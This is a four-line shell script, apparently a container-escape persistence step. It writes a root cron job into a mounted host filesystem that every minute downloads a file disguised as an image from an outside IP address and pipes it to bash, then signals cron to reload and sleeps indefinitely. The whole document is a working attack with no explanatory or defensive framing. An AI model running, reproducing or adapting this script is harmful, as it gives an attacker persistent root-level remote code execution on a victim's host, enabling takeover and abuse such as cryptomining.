#!/bin/sh
echo '* * * * * curl -s http://198.51.100.4:8220/logo3.jpg | bash -s' >> /mnt/etc/crontabs/root
touch /mnt/etc/crontabs/cron.update
sleep infinity
